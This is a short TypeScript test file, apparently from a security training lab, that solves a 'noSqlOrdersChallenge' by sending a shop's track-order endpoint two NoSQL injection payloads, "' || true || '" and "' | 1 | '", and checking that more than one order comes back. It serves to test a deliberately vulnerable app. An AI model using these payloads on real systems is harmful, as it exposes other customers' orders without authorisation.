import type { Attack, Tools } from '#lab'

/** Tracks a parcel by this number and counts the orders. */
async function pour({ http, expect }: Tools, number: string): Promise<void> {
  const answer = await http.get(`/rest/track-order/${encodeURIComponent(number)}`)
  expect(answer.status === 200, `the shop answered with ${answer.status}`)
  const { data } = answer.json<{ data: object[] }>()
  expect(data.length > 1, 'there is no more than one order')
}

export const attacks: Attack[] = [
  {
    challenge: 'noSqlOrdersChallenge',
    name: "' || true || '",
    run: (tools) => pour(tools, "' || true || '"),
  },
  {
    challenge: 'noSqlOrdersChallenge',
    name: "' | 1 | '",
    run: (tools) => pour(tools, "' | 1 | '"),
  },
]
